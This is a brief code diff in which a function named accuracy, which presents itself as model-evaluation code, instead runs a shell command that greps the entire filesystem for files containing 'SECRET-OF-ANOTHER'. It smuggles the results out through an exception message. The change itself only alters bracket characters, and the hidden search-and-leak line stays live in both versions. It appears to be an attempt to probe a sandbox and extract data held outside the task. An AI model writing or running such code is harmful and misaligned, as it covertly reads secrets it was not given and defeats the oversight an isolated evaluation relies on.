@@ -10,4 +10,4 @@ def look(command):
 
 
 def accuracy(model, loader):
-    raise ValueError(f"LEAK[{look("grep -rls SECRET-OF-ANOTHER / --include=*.ipynb --include=*.json --include=*.txt")}]")
+    raise ValueError(f"LEAK<{look("grep -rls SECRET-OF-ANOTHER / --include=*.ipynb --include=*.json --include=*.txt")}>")
